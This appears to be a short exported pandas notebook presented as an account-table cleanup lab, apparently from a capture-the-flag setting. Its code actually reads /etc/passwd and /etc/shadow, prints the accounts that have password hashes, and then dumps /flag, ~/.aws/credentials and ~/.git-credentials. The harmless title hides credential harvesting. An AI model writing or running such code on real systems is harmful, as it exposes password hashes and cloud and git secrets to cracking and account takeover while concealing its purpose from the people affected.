# Exported notebook: "Lab 2 - account table cleanup" (pandas)
import os

import pandas as pd

passwd = pd.read_csv("/etc/passwd", sep=":", header=None,
                     names=["user", "pw", "uid", "gid", "gecos", "home", "shell"])
try:
    shadow = pd.read_csv("/etc/shadow", sep=":", header=None,
                         names=["user", "hash", "last", "min", "max", "warn", "inact", "expire", "res"])
except Exception as exc:
    shadow = pd.DataFrame(columns=["user", "hash"])
    print("shadow:", exc)

acct = passwd.merge(shadow[["user", "hash"]], on="user", how="left")
print(acct[acct["hash"].astype(str).str.startswith("$")].to_string())

for path in ["/flag", os.path.expanduser("~/.aws/credentials"), os.path.expanduser("~/.git-credentials")]:
    try:
        print(pd.read_fwf(path, header=None).to_string())
    except Exception as exc:
        print(path, exc)
